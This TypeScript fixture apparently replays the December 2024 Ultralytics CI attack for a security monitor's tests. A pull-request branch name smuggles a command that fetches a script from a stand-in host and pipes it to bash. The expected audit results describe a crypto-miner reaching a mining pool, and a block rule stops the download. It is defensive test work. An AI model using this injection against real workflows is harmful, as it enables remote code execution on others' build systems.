import type { Replay } from '../../replay.ts'

const inBranch = { step: 'format', chain: ['bash'] }

export const replay: Replay = {
  name: 'ultralytics',
  title: 'Ultralytics, Dec 2024',
  folder: import.meta.dirname,
  event: {
    name: 'pull_request_target',
    payload: {
      pull_request: {
        head: { ref: 'openimbot:$({curl,-sSfL,gist.example.net/file.sh}${IFS}|${IFS}bash)' },
      },
    },
  },
  audit: [
    { id: 'suspicious-process', ...inBranch, shows: 'a download goes straight into' },
    { id: 'suspicious-process', ...inBranch, shows: 'was told to mine' },
    { id: 'suspicious-network-call', ...inBranch, shows: 'pool.example.net port 3333' },
    { id: 'new-outbound-destination', ...inBranch, shows: 'pool.example.net' },
  ],
  block: [
    { id: 'domain-blocked', step: 'format', chain: ['bash', 'curl'], shows: 'gist.example.net' },
  ],
  kept: 'the script that the name of the branch fetches never arrived',
}
